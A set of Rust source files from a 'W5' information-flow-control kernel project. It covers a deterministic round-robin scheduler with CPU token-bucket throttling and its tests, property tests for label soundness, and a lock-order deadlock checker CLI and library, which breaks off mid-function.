            ..ResourceLimits::unlimited()
        });
        assert!(rc.charge_disk(10).is_ok());
        assert!(rc.charge_disk(1).is_err());
        assert!(rc.charge_network(5).is_ok());
        assert!(rc.charge_network(1).is_err());
        assert_eq!(rc.usage().denials, 2);
    }

    #[test]
    fn unlimited_never_denies() {
        let mut rc = ResourceContainer::default();
        for _ in 0..1000 {
            rc.charge_cpu(u32::MAX as u64).unwrap();
            rc.charge_disk(1 << 40).unwrap();
        }
        assert_eq!(rc.usage().denials, 0);
    }

    #[test]
    fn quota_error_display() {
        let e = QuotaExceeded { kind: ResourceKind::Disk, requested: 9, available: 3 };
        assert_eq!(format!("{e}"), "disk quota exceeded: requested 9, 3 available");
    }
}
