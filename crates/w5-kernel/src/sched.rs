//! Deterministic cooperative scheduler.
//!
//! Drives a set of [`Task`]s round-robin over virtual time, refilling CPU
//! token buckets at epoch boundaries. This is the harness for the paper's
//! §3.5 resource-allocation experiment (E8): with containers enabled, a
//! spinning rogue application exhausts its own bucket and honest tasks keep
//! their latency; with containers disabled, the rogue starves everyone.
//!
//! Virtual time is measured in *ticks*; each task step reports its cost.
//! Nothing depends on the wall clock, so runs are exactly reproducible.

use crate::ids::ProcessId;
use crate::kernel::Kernel;
use crate::resource::ResourceKind;
use std::collections::BTreeMap;

/// What a task did during one step.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Step {
    /// Performed `cost` ticks of work and wants to run again.
    Yield {
        /// CPU ticks consumed by this step (≥ 1 is charged as ≥ 1).
        cost: u64,
    },
    /// Waiting for an external event this scheduler cannot see; skip it
    /// this round (it stays schedulable next round).
    Blocked,
    /// Finished; remove from the run queue.
    Done,
}

/// A schedulable unit of application work.
pub trait Task {
    /// Execute one bounded slice of work.
    fn step(&mut self, kernel: &Kernel, pid: ProcessId) -> Step;
}

impl<F: FnMut(&Kernel, ProcessId) -> Step> Task for F {
    fn step(&mut self, kernel: &Kernel, pid: ProcessId) -> Step {
        self(kernel, pid)
    }
}

/// Result of a scheduler run.
#[derive(Clone, Debug, Default)]
pub struct SchedulerReport {
    /// Total virtual ticks elapsed.
    pub total_ticks: u64,
    /// Epochs completed.
    pub epochs: u64,
    /// Virtual tick at which each task finished (absent = never finished).
    pub finished_at: BTreeMap<ProcessId, u64>,
    /// Ticks each task actually executed.
    pub executed: BTreeMap<ProcessId, u64>,
    /// Times a task was denied CPU by its container.
    pub throttled: BTreeMap<ProcessId, u64>,
}

struct Entry {
    pid: ProcessId,
    task: Box<dyn Task>,
    done: bool,
}

/// A deterministic epoch clock for code that charges CPU token buckets
/// *outside* a [`Scheduler`] run — e.g. the HTTP request pipeline, whose
/// admission stage charges each admitted request against its principal's
/// [`crate::resource::ResourceContainer`]. Virtual time there is counted
/// in *admitted requests*, not ticks: every `period` ticks of the pacer,
/// the caller is told to run [`Kernel::refill_epoch`]. Nothing touches
/// the wall clock, so boundary throttling replays exactly like the
/// scheduler's own epochs.
#[derive(Debug)]
pub struct EpochPacer {
    period: u64,
    count: std::sync::atomic::AtomicU64,
}

impl EpochPacer {
    /// A pacer that completes an epoch every `period` ticks. A period of
    /// zero never completes an epoch (token buckets are then cumulative
    /// over the process lifetime).
    pub fn new(period: u64) -> EpochPacer {
        EpochPacer { period, count: std::sync::atomic::AtomicU64::new(0) }
    }

    /// Count one tick; true when this tick closes an epoch and the caller
    /// should refill the kernel's token buckets.
    pub fn tick(&self) -> bool {
        if self.period == 0 {
            return false;
        }
        let n = self.count.fetch_add(1, std::sync::atomic::Ordering::Relaxed) + 1;
        n.is_multiple_of(self.period)
    }

    /// Ticks counted so far.
    pub fn ticks(&self) -> u64 {
        self.count.load(std::sync::atomic::Ordering::Relaxed)
    }

    /// The configured epoch length (0 = epochs never complete).
    pub fn period(&self) -> u64 {
        self.period
    }
}

/// Round-robin scheduler over kernel processes.
pub struct Scheduler {
    kernel: Kernel,
    entries: Vec<Entry>,
    /// Epoch length in virtual ticks.
    epoch_ticks: u64,
    /// When false, CPU charges are skipped entirely — the "no resource
    /// containers" baseline arm.
    enforce: bool,
}

impl Scheduler {
    /// A scheduler over the given kernel. `epoch_ticks` is the virtual-time
    /// length of one token-bucket epoch.
    pub fn new(kernel: Kernel, epoch_ticks: u64, enforce: bool) -> Scheduler {
        assert!(epoch_ticks > 0, "epoch must be positive");
        Scheduler { kernel, entries: Vec::new(), epoch_ticks, enforce }
    }

    /// Add a task bound to an existing kernel process.
    pub fn add(&mut self, pid: ProcessId, task: Box<dyn Task>) {
        self.entries.push(Entry { pid, task, done: false });
    }

    /// Number of unfinished tasks.
    pub fn pending(&self) -> usize {
        self.entries.iter().filter(|e| !e.done).count()
    }

    /// Run until every task is done or `max_ticks` of virtual time elapse.
    pub fn run(&mut self, max_ticks: u64) -> SchedulerReport {
        let mut report = SchedulerReport::default();
        let mut now: u64 = 0;
        let mut next_epoch = self.epoch_ticks;
        self.kernel.refill_epoch();
        report.epochs = 1;

        while now < max_ticks {
            if self.entries.iter().all(|e| e.done) {
                break;
            }
            let mut progressed = false;
            for entry in &mut self.entries {
                if entry.done || now >= max_ticks {
                    continue;
                }
                // Container gate: a task with an empty bucket skips its turn.
                if self.enforce {
                    match self.kernel.cpu_tokens(entry.pid) {
                        Ok(0) => {
                            *report.throttled.entry(entry.pid).or_default() += 1;
                            continue;
                        }
                        Ok(_) => {}
                        Err(_) => {
                            entry.done = true;
                            continue;
                        }
                    }
                }
                match entry.task.step(&self.kernel, entry.pid) {
                    Step::Yield { cost } => {
                        let mut cost = cost.max(1);
                        // Preemption storm: an injected fault cuts the slice
                        // to a single tick, as a hostile timer interrupt
                        // would. Work is not lost — the task just reports
                        // less progress per turn.
                        if w5_chaos::inject(w5_chaos::Site::SchedPreempt).is_some() {
                            cost = 1;
                        }
                        if self.enforce {
                            // Preemption: the slice is cut off at the
                            // container's remaining budget, exactly as a
                            // timer interrupt would cut off a real process.
                            let tokens = self.kernel.cpu_tokens(entry.pid).unwrap_or(0);
                            cost = cost.min(tokens.max(1));
                            let _ = self.kernel.charge(entry.pid, ResourceKind::Cpu, cost);
                        }
                        now += cost;
                        *report.executed.entry(entry.pid).or_default() += cost;
                        // Quantum accounting is labeled with the task's
                        // current secrecy: CPU-use patterns of a tainted
                        // process are themselves tainted (§3.5).
                        let secrecy = self
                            .kernel
                            .labels(entry.pid)
                            .map(|l| l.secrecy.to_obs())
                            .unwrap_or_default();
                        w5_obs::record(
                            &secrecy,
                            w5_obs::EventKind::ScheduleQuantum { pid: entry.pid.0, ticks: cost },
                        );
                        progressed = true;
                    }
                    Step::Blocked => {}
                    Step::Done => {
                        entry.done = true;
                        report.finished_at.insert(entry.pid, now);
                        progressed = true;
                    }
                }
                while now >= next_epoch {
                    self.kernel.refill_epoch();
                    next_epoch += self.epoch_ticks;
                    report.epochs += 1;
                }
            }
            if !progressed {
                // Every runnable task is throttled until the next epoch:
                // advance virtual time to the refill point.
                if self.entries.iter().all(|e| e.done) {
                    break;
                }
                now = next_epoch.min(max_ticks);
                while now >= next_epoch && now < max_ticks {
                    next_epoch += self.epoch_ticks;
                }
                self.kernel.refill_epoch();
                next_epoch = next_epoch.max(now + self.epoch_ticks);
                report.epochs += 1;
            }
        }
        report.total_ticks = now;
        report
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::resource::ResourceLimits;
    use std::sync::Arc;
    use w5_difc::{CapSet, LabelPair, TagRegistry};

    fn kernel() -> Kernel {
        Kernel::new(Arc::new(TagRegistry::new()))
    }

    /// A task that does `total` ticks of work in `slice`-tick steps.
    fn worker(total: u64, slice: u64) -> impl FnMut(&Kernel, ProcessId) -> Step {
        let mut left = total;
        move |_k, _pid| {
            if left == 0 {
                return Step::Done;
            }
            let c = slice.min(left);
            left -= c;
            Step::Yield { cost: c }
        }
    }

    #[test]
    fn single_task_runs_to_completion() {
        let k = kernel();
        let pid = k.create_process("w", LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited());
        let mut s = Scheduler::new(k, 100, true);
        s.add(pid, Box::new(worker(50, 10)));
        let r = s.run(10_000);
        assert_eq!(r.executed[&pid], 50);
        assert!(r.finished_at.contains_key(&pid));
        assert_eq!(s.pending(), 0);
    }

    #[test]
    fn round_robin_interleaves_fairly() {
        let k = kernel();
        let a = k.create_process("a", LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited());
        let b = k.create_process("b", LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited());
        let mut s = Scheduler::new(k, 1_000, true);
        s.add(a, Box::new(worker(100, 10)));
        s.add(b, Box::new(worker(100, 10)));
        let r = s.run(10_000);
        // Both finish, and neither finishes before the other has run at all.
        assert_eq!(r.executed[&a], 100);
        assert_eq!(r.executed[&b], 100);
        let fa = r.finished_at[&a];
        let fb = r.finished_at[&b];
        assert!((fa as i64 - fb as i64).abs() <= 10, "fa={fa} fb={fb}");
    }

    #[test]
    fn containers_throttle_a_spinner() {
        let k = kernel();
        // Rogue gets 10 ticks/epoch; honest unlimited.
        let rogue = k.create_process(
            "rogue",
            LabelPair::public(),
            CapSet::empty(),
            ResourceLimits { cpu_per_epoch: 10, ..ResourceLimits::unlimited() },
        );
        let honest = k.create_process(
            "honest",
            LabelPair::public(),
            CapSet::empty(),
            ResourceLimits { cpu_per_epoch: 100, ..ResourceLimits::unlimited() },
        );
        let mut s = Scheduler::new(k, 100, true);
        s.add(rogue, Box::new(worker(1_000_000, 10))); // effectively infinite spin
        s.add(honest, Box::new(worker(200, 10)));
        let r = s.run(100_000);
        assert!(r.finished_at.contains_key(&honest), "honest task must finish");
        // The rogue must have been throttled.
        assert!(r.throttled.get(&rogue).copied().unwrap_or(0) > 0);
        // The honest task's share of executed ticks must dominate the rogue's
        // within the window it was running.
        let honest_done = r.finished_at[&honest];
        assert!(
            honest_done <= 600,
            "honest latency {honest_done} should be bounded under enforcement"
        );
    }

    #[test]
    fn without_containers_rogue_starves_honest() {
        let k = kernel();
        let rogue = k.create_process("rogue", LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited());
        let honest = k.create_process("honest", LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited());
        let mut s = Scheduler::new(k, 100, false);
        // The rogue takes huge slices; round-robin still alternates but each
        // rogue turn burns 1000 ticks to the honest task's 10.
        s.add(rogue, Box::new(worker(u64::MAX / 2, 1_000)));
        s.add(honest, Box::new(worker(200, 10)));
        let r = s.run(50_000);
        let honest_done = r.finished_at.get(&honest).copied().unwrap_or(u64::MAX);
        // Latency is far worse than the enforced case (each of the ~20
        // honest slices pays a 1000-tick rogue tax).
        assert!(honest_done > 15_000, "honest latency without containers: {honest_done}");
    }

    #[test]
    fn blocked_tasks_do_not_stall_the_run() {
        let k = kernel();
        let a = k.create_process("a", LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited());
        let b = k.create_process("b", LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited());
        let mut s = Scheduler::new(k, 100, true);
        s.add(a, Box::new(|_k: &Kernel, _p: ProcessId| Step::Blocked));
        s.add(b, Box::new(worker(30, 10)));
        let r = s.run(1_000);
        assert!(r.finished_at.contains_key(&b));
        assert!(!r.finished_at.contains_key(&a));
    }

    #[test]
    fn max_ticks_bounds_the_run() {
        let k = kernel();
        let a = k.create_process("a", LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited());
        let mut s = Scheduler::new(k, 100, true);
        s.add(a, Box::new(worker(u64::MAX / 2, 100)));
        let r = s.run(5_000);
        assert!(r.total_ticks >= 5_000 && r.total_ticks < 5_200);
    }
}
