//! Property tests for the kernel: label-state soundness under random
//! operation sequences, and scheduler determinism.

use bytes::Bytes;
use proptest::prelude::*;
use std::sync::Arc;
use w5_difc::{CapSet, Label, LabelPair, Tag, TagKind, TagRegistry};
use w5_kernel::{Kernel, ProcessId, ResourceLimits, Scheduler, Step};

#[derive(Clone, Debug)]
enum Op {
    CreateTag(u8),         // which process creates an export tag
    Raise(u8, u8),         // process raises to include tag #k (if exists)
    Send(u8, u8),          // a → b
    Recv(u8),
}

fn arb_op() -> impl Strategy<Value = Op> {
    prop_oneof![
        (0u8..4).prop_map(Op::CreateTag),
        (0u8..4, 0u8..6).prop_map(|(p, t)| Op::Raise(p, t)),
        (0u8..4, 0u8..4).prop_map(|(a, b)| Op::Send(a, b)),
        (0u8..4).prop_map(Op::Recv),
    ]
}

proptest! {
    /// Soundness invariant under random operations: whenever a message is
    /// *delivered*, its secrecy (the sender's at send time, minus what the
    /// sender owned) was a subset of the receiver's labels. We verify the
    /// weaker but directly observable form: every message sitting in a
    /// mailbox has secrecy ⊆ the receiver's labels *at delivery*, which we
    /// check at recv time against a receiver whose labels only grow.
    #[test]
    fn delivered_messages_respect_receiver_labels(ops in proptest::collection::vec(arb_op(), 0..60)) {
        let registry = Arc::new(TagRegistry::new());
        let kernel = Kernel::new(Arc::clone(&registry));
        let pids: Vec<ProcessId> = (0..4)
            .map(|i| {
                kernel.create_process(
                    &format!("p{i}"),
                    LabelPair::public(),
                    CapSet::empty(),
                    ResourceLimits::unlimited(),
                )
            })
            .collect();
        let mut tags: Vec<Tag> = Vec::new();

        for op in ops {
            match op {
                Op::CreateTag(p) => {
                    let t = kernel
                        .create_tag(pids[p as usize], TagKind::ExportProtect, "t")
                        .unwrap();
                    tags.push(t);
                }
                Op::Raise(p, k) => {
                    if let Some(&t) = tags.get(k as usize) {
                        let pid = pids[p as usize];
                        let cur = kernel.labels(pid).unwrap();
                        let _ = kernel.change_labels(
                            pid,
                            LabelPair::new(cur.secrecy.with(t), cur.integrity),
                        );
                    }
                }
                Op::Send(a, b) => {
                    let _ = kernel.send(
                        pids[a as usize],
                        pids[b as usize],
                        Bytes::from_static(b"m"),
                        CapSet::empty(),
                    );
                }
                Op::Recv(p) => {
                    let pid = pids[p as usize];
                    if let Ok(Some(msg)) = kernel.recv(pid) {
                        let my = kernel.labels(pid).unwrap();
                        // The *non-declassifiable* part of the message's
                        // secrecy must be within my labels: senders in this
                        // model own the tags they created, so subtract the
                        // sender-owned tags before comparing.
                        let sender_caps = kernel
                            .caps(msg.from)
                            .map(|c| c.minus_label())
                            .unwrap_or_else(|_| Label::empty());
                        let hard = msg.labels.secrecy.difference(&sender_caps);
                        prop_assert!(
                            hard.is_subset(&my.secrecy),
                            "delivered {hard:?} to process at {:?}",
                            my.secrecy
                        );
                    }
                }
            }
        }
    }

    /// Scheduler determinism: identical task sets produce identical
    /// reports.
    #[test]
    fn scheduler_is_deterministic(
        works in proptest::collection::vec((1u64..500, 1u64..50), 1..6),
        epoch in 10u64..200,
    ) {
        let run = || {
            let kernel = Kernel::new(Arc::new(TagRegistry::new()));
            let mut sched = Scheduler::new(kernel.clone(), epoch, true);
            for (i, &(total, slice)) in works.iter().enumerate() {
                let pid = kernel.create_process(
                    &format!("w{i}"),
                    LabelPair::public(),
                    CapSet::empty(),
                    ResourceLimits { cpu_per_epoch: 50, ..ResourceLimits::unlimited() },
                );
                let mut left = total;
                sched.add(pid, Box::new(move |_k: &Kernel, _p: ProcessId| {
                    if left == 0 {
                        return Step::Done;
                    }
                    let c = slice.min(left);
                    left -= c;
                    Step::Yield { cost: c }
                }));
            }
            let r = sched.run(100_000);
            (r.total_ticks, r.finished_at, r.executed)
        };
        prop_assert_eq!(run(), run());
    }

    /// All work completes when capacity allows, regardless of shape.
    #[test]
    fn all_tasks_finish_given_time(
        works in proptest::collection::vec((1u64..200, 1u64..20), 1..5),
    ) {
        let kernel = Kernel::new(Arc::new(TagRegistry::new()));
        let mut sched = Scheduler::new(kernel.clone(), 100, true);
        let mut pids = Vec::new();
        for (i, &(total, slice)) in works.iter().enumerate() {
            let pid = kernel.create_process(
                &format!("w{i}"),
                LabelPair::public(),
                CapSet::empty(),
                ResourceLimits { cpu_per_epoch: 30, ..ResourceLimits::unlimited() },
            );
            pids.push(pid);
            let mut left = total;
            sched.add(pid, Box::new(move |_k: &Kernel, _p: ProcessId| {
                if left == 0 {
                    return Step::Done;
                }
                let c = slice.min(left);
                left -= c;
                Step::Yield { cost: c }
            }));
        }
        let r = sched.run(1_000_000);
        for pid in pids {
            prop_assert!(r.finished_at.contains_key(&pid), "{pid} unfinished: {r:?}");
        }
    }
}
