//! w5deadlock — lock-order certification CLI.
//!
//! Checks the workspace's declared lock-order manifest, optionally merged
//! with one or more `ObservedRun` JSON files (recorded by `w5-sync` during
//! test/sim runs), and prints W5D findings.
//!
//! ```text
//! w5deadlock [--json] [--graph] [--deny info|warning|error] [--list]
//!            [--manifest FILE] [--emit-manifest] [RUN.json...]
//! ```
//!
//! Exit codes: `0` = the `--deny` gate passes (default gate: error),
//! `1` = at least one finding at or above the gate, `2` = usage or input
//! error. With no run files the check is purely static: the declared
//! manifest must be self-consistent. Designed for CI, like `w5lint`: the
//! exit code is the verdict, stdout is the evidence.

#![forbid(unsafe_code)]

use std::process::ExitCode;
use w5_lockdep::{analyze, to_dot, Manifest, Severity, LOCKDEP_CATALOG};
use w5_sync::lockdep::ObservedRun;

const USAGE: &str = "usage: w5deadlock [--json] [--graph] [--deny info|warning|error] [--list] [--manifest FILE] [--emit-manifest] [RUN.json...]

  --json           emit the full report as JSON instead of human-readable lines
  --graph          emit the declared order + observed edges as a DOT graph and exit
  --deny S         exit nonzero when any finding has severity >= S (default: error)
  --list           print the W5D lint catalog and exit
  --manifest FILE  check against FILE (JSON) instead of the built-in workspace manifest
  --emit-manifest  print the built-in workspace manifest as JSON and exit
  RUN.json         ObservedRun dumps to merge into the check (omit for a static-only check)";

fn main() -> ExitCode {
    let mut json = false;
    let mut graph = false;
    let mut deny = Severity::Error;
    let mut manifest_path: Option<String> = None;
    let mut files: Vec<String> = Vec::new();

    let mut argv = std::env::args().skip(1);
    while let Some(arg) = argv.next() {
        match arg.as_str() {
            "--json" => json = true,
            "--graph" => graph = true,
            "--list" => {
                for (code, name, severity, desc) in LOCKDEP_CATALOG {
                    println!("{code}  {severity:<7}  {name:<22} {desc}");
                }
                return ExitCode::SUCCESS;
            }
            "--emit-manifest" => {
                println!("{}", Manifest::workspace().to_json());
                return ExitCode::SUCCESS;
            }
            "--deny" => {
                let Some(v) = argv.next() else {
                    eprintln!("w5deadlock: --deny requires a severity\n{USAGE}");
                    return ExitCode::from(2);
                };
                match v.parse::<Severity>() {
                    Ok(s) => deny = s,
                    Err(e) => {
                        eprintln!("w5deadlock: {e}\n{USAGE}");
                        return ExitCode::from(2);
                    }
                }
            }
            "--manifest" => {
                let Some(v) = argv.next() else {
                    eprintln!("w5deadlock: --manifest requires a path\n{USAGE}");
                    return ExitCode::from(2);
                };
                manifest_path = Some(v);
            }
            "--help" | "-h" => {
                println!("{USAGE}");
                return ExitCode::SUCCESS;
            }
            other if other.starts_with('-') => {
                eprintln!("w5deadlock: unknown flag {other:?}\n{USAGE}");
                return ExitCode::from(2);
            }
            file => files.push(file.to_string()),
        }
    }

    let manifest = match manifest_path {
        None => Manifest::workspace(),
        Some(path) => {
            let raw = match std::fs::read_to_string(&path) {
                Ok(r) => r,
                Err(e) => {
                    eprintln!("w5deadlock: cannot read manifest {path}: {e}");
                    return ExitCode::from(2);
                }
            };
            match Manifest::from_json(&raw) {
                Ok(m) => m,
                Err(e) => {
                    eprintln!("w5deadlock: cannot parse manifest {path}: {e}");
                    return ExitCode::from(2);
                }
            }
        }
    };

    let mut run = ObservedRun::empty();
    for file in &files {
        let raw = match std::fs::read_to_string(file) {
            Ok(r) => r,
            Err(e) => {
                eprintln!("w5deadlock: cannot read run {file}: {e}");
                return ExitCode::from(2);
            }
        };
        match serde_json::from_str::<ObservedRun>(&raw) {
            Ok(r) => run.merge(&r),
            Err(e) => {
                eprintln!("w5deadlock: cannot parse run {file}: {e}");
                return ExitCode::from(2);
            }
        }
    }

    if graph {
        print!("{}", to_dot(&manifest, &run));
        return ExitCode::SUCCESS;
    }

    let report = analyze(&manifest, &run);
    if json {
        println!("{}", report.to_json());
    } else {
        print!("{}", report.render_human());
    }
    if report.passes(deny) {
        ExitCode::SUCCESS
    } else {
        ExitCode::from(1)
    }
}
