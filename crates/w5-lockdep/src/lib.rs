//! # w5-lockdep — lock-order certification for the W5 synchronization layer
//!
//! PR 7 sharded the kernel across 16 lock stripes and PR 8 partitioned
//! the store; the only deadlock discipline was the hand-rolled `TwoShards`
//! lower-index-first rule. This crate makes the synchronization layer
//! *checkable*, the way `w5lint` made the label configuration checkable:
//!
//! 1. Every lock in the workspace is a classed `w5-sync` wrapper; test and
//!    sim runs record an [`ObservedRun`] — cross-class acquisition edges,
//!    same-class double acquisitions, blocking calls under locks.
//! 2. [`Manifest::workspace`] declares the intended total order: every
//!    lock class with a numeric rank (outer layers rank lower and lock
//!    first), plus statically allowed held→acquired pairs and the classes
//!    that require an explicit `allow_held` annotation at the call site.
//! 3. [`analyze`] checks the observed facts against the declaration and
//!    emits findings with stable codes `W5D001`–`W5D006` through the same
//!    [`Finding`]/report machinery as the flow auditor; violations are
//!    *static* facts (declared order vs. observed edge), not just runtime
//!    observations.
//!
//! | code   | name                 | severity | condition |
//! |--------|----------------------|----------|-----------|
//! | W5D001 | lock-cycle           | error    | observed acquisition edges form a cross-class cycle |
//! | W5D002 | same-class-unordered | error    | one class acquired twice without strictly ascending instance index |
//! | W5D003 | held-across-blocking | error    | a marked blocking call ran with classed locks held, unannotated |
//! | W5D004 | order-inversion      | error    | an observed edge contradicts the declared class ranks |
//! | W5D005 | undeclared-class     | warning  | an observed class is missing from the manifest |
//! | W5D006 | unannotated-ledger   | warning  | an annotation-required class acquired under locks without `allow_held` |
//!
//! Front ends: the `w5deadlock` CLI (`--graph`/`--json`/`--deny`, CI exit
//! codes, DOT output — `w5lint`'s shape), and the differential oracles in
//! `w5_sim::concurrency` / `w5_sim::storediff`, which record and analyze
//! every run so each oracle run doubles as a lockdep run.

#![forbid(unsafe_code)]

use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use w5_sync::lockdep::{ObservedRun, RunNote};

pub use w5_analyze::{Finding, Severity};

/// The W5D lint catalog: `(code, name, severity, one-line description)`.
pub const LOCKDEP_CATALOG: [(&str, &str, Severity, &str); 6] = [
    (
        "W5D001",
        "lock-cycle",
        Severity::Error,
        "observed acquisition edges form a cross-class cycle (deadlock is schedulable)",
    ),
    (
        "W5D002",
        "same-class-unordered",
        Severity::Error,
        "one lock class acquired twice without strictly ascending instance index (TwoShards bypass)",
    ),
    (
        "W5D003",
        "held-across-blocking",
        Severity::Error,
        "a marked blocking call (socket write, fs I/O, flush) ran with classed locks held",
    ),
    (
        "W5D004",
        "order-inversion",
        Severity::Error,
        "an observed acquisition edge contradicts the declared class ranks",
    ),
    (
        "W5D005",
        "undeclared-class",
        Severity::Warning,
        "an observed lock class is missing from the declared-order manifest",
    ),
    (
        "W5D006",
        "unannotated-ledger",
        Severity::Warning,
        "an annotation-required class was acquired under held locks without allow_held",
    ),
];

/// One declared lock class.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct ClassDecl {
    /// Class name as passed to the `w5-sync` constructors.
    pub name: String,
    /// Position in the total acquisition order; lower ranks lock first.
    pub rank: u32,
    /// What the class protects.
    #[serde(default)]
    pub note: String,
}

/// A statically allowed held→acquired pair (equivalent to an `allow_held`
/// annotation at every site; `acquired` may also name a blocking site).
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct AllowDecl {
    /// Class (or blocking site) being entered.
    pub acquired: String,
    /// Class that may be held while doing so ("*" for any).
    pub held: String,
}

/// The declared-order manifest: the workspace's intended locking
/// discipline as one serializable value.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Manifest {
    /// All lock classes, with ranks.
    pub classes: Vec<ClassDecl>,
    /// Statically allowed held→acquired pairs.
    #[serde(default)]
    pub allow_held: Vec<AllowDecl>,
    /// Classes whose acquisition under any held lock requires an explicit
    /// `allow_held` annotation (W5D006).
    #[serde(default)]
    pub require_annotation: Vec<String>,
}

macro_rules! class {
    ($name:literal, $rank:literal, $note:literal) => {
        ClassDecl { name: $name.to_string(), rank: $rank, note: $note.to_string() }
    };
}

impl Manifest {
    /// The workspace's declared lock order. Outer layers (net, platform)
    /// rank lower and lock first; leaf utilities (chaos, obs) rank
    /// highest so any layer may reach them while holding its own locks.
    pub fn workspace() -> Manifest {
        Manifest {
            classes: vec![
                class!("test.fixture", 1, "test-local scaffolding (channel handles, probes)"),
                class!("net.accept", 10, "HTTP server accept-thread join handle"),
                class!("net.dns", 12, "DNS record table"),
                class!("net.dns_thread", 13, "DNS refresher join handle"),
                class!("net.pipeline", 14, "pipeline shard queue state — DRR queues (index = shard)"),
                class!("net.pipeline.worker", 15, "pipeline worker-pool join handles"),
                class!("platform.sessions", 20, "live session table"),
                class!("platform.principals", 21, "principal name/id maps"),
                class!("platform.appreg", 22, "app manifest + module registry"),
                class!("platform.policy", 23, "per-user declassification policies"),
                class!("platform.declass", 24, "declassifier catalog, rate counters, audiences"),
                class!("platform.editors", 25, "editor endorsement table"),
                class!("platform.perimeter", 26, "perimeter audit ring"),
                class!("platform.impl", 27, "platform implementation/fault tables"),
                class!("platform.boundary", 28, "net-boundary principal-class → kernel process map"),
                class!("baseline.silo", 30, "siloed-deployment baseline state"),
                class!("baseline.mashup", 31, "mashup baseline received-data log"),
                class!("baseline.thirdparty", 32, "third-party-hosting baseline state"),
                class!("kernel.shard", 40, "sharded kernel process-map stripe (index = shard)"),
                class!("kernel.reference", 41, "single-lock reference kernel state"),
                class!("store.partition", 50, "SQL store label-partitioned table map"),
                class!("store.fs", 52, "labeled in-memory filesystem tree"),
                class!("difc.registry", 60, "tag metadata + global capability set (meta=0, global=1)"),
                class!("difc.intern.shard", 62, "label intern hash stripe"),
                class!("difc.intern.table", 63, "interned label table"),
                class!("difc.intern.ops", 64, "label binop memo table"),
                class!("chaos.injector", 80, "fault-injector schedule state"),
                class!("obs.ledger", 90, "flow ledger rings (ring=0, latencies=1, published=2, spans=3)"),
            ],
            allow_held: Vec::new(),
            require_annotation: vec!["obs.ledger".to_string()],
        }
    }

    /// Rank of a declared class, if present.
    pub fn rank_of(&self, class: &str) -> Option<u32> {
        self.classes.iter().find(|c| c.name == class).map(|c| c.rank)
    }

    /// Is `held` → `acquired` statically allowed?
    pub fn allows(&self, held: &str, acquired: &str) -> bool {
        self.allow_held
            .iter()
            .any(|a| a.acquired == acquired && (a.held == "*" || a.held == held))
    }

    /// Pretty JSON encoding.
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).expect("manifest serializes")
    }

    /// Parse a manifest from JSON.
    pub fn from_json(s: &str) -> Result<Manifest, String> {
        serde_json::from_str(s).map_err(|e| e.to_string())
    }
}

/// The outcome of one lockdep analysis.
#[derive(Clone, Debug, Serialize)]
pub struct DeadlockReport {
    /// Classes in the manifest.
    pub classes_declared: usize,
    /// Cross-class edges in the observed run.
    pub edges_observed: usize,
    /// All findings, most severe first.
    pub findings: Vec<Finding>,
    /// Run-level notes (operation-mix context from the recorder).
    pub notes: Vec<RunNote>,
}

impl DeadlockReport {
    /// The most severe finding present.
    pub fn worst(&self) -> Option<Severity> {
        self.findings.iter().map(|f| f.severity).max()
    }

    /// No findings at all.
    pub fn is_clean(&self) -> bool {
        self.findings.is_empty()
    }

    /// Would a `--deny threshold` gate pass?
    pub fn passes(&self, threshold: Severity) -> bool {
        self.findings.iter().all(|f| f.severity < threshold)
    }

    /// Findings with a given code.
    pub fn with_code(&self, code: &str) -> Vec<&Finding> {
        self.findings.iter().filter(|f| f.code == code).collect()
    }

    /// Pretty JSON encoding.
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).expect("report serializes")
    }

    /// Human-readable rendering, one line per finding plus a summary.
    pub fn render_human(&self) -> String {
        let mut s = String::new();
        let _ = writeln!(
            s,
            "w5deadlock: {} class(es) declared, {} edge(s) observed",
            self.classes_declared, self.edges_observed
        );
        for f in &self.findings {
            let _ = writeln!(s, "{}[{}] {} ({}): {}", f.code, f.severity, f.subject, f.name, f.message);
        }
        for n in &self.notes {
            let _ = writeln!(s, "note: {} = {}", n.key, n.value);
        }
        let (mut e, mut w, mut i) = (0usize, 0usize, 0usize);
        for f in &self.findings {
            match f.severity {
                Severity::Error => e += 1,
                Severity::Warning => w += 1,
                Severity::Info => i += 1,
            }
        }
        if self.findings.is_empty() {
            let _ = writeln!(s, "clean: no findings");
        } else {
            let _ = writeln!(s, "{e} error(s), {w} warning(s), {i} info");
        }
        s
    }

    /// Write each finding into the w5-obs flow ledger as an
    /// `AuditFinding` event — same machinery as `AuditExt::audit_recorded`.
    pub fn record_to_ledger(&self) {
        for f in &self.findings {
            w5_obs::record(
                &w5_obs::ObsLabel::empty(),
                w5_obs::EventKind::AuditFinding {
                    code: f.code.to_string(),
                    severity: f.severity.name().to_string(),
                    subject: f.subject.clone(),
                    message: f.message.clone(),
                },
            );
        }
    }
}

fn catalog(code: &str) -> (&'static str, &'static str, Severity) {
    for (c, name, sev, _) in LOCKDEP_CATALOG {
        if c == code {
            return (c, name, sev);
        }
    }
    unreachable!("unknown lockdep code {code}");
}

fn finding(code: &str, subject: String, message: String) -> Finding {
    let (code, name, severity) = catalog(code);
    Finding { code, name, severity, subject, message }
}

/// Analyze one observed run against the declared manifest.
pub fn analyze(manifest: &Manifest, run: &ObservedRun) -> DeadlockReport {
    let mut findings: Vec<Finding> = Vec::new();

    // W5D005: every observed class must be declared. One finding per class.
    let declared: BTreeSet<&str> = manifest.classes.iter().map(|c| c.name.as_str()).collect();
    let mut dup_check: BTreeMap<&str, usize> = BTreeMap::new();
    for c in &manifest.classes {
        *dup_check.entry(c.name.as_str()).or_insert(0) += 1;
    }
    for (name, n) in dup_check {
        if n > 1 {
            findings.push(finding(
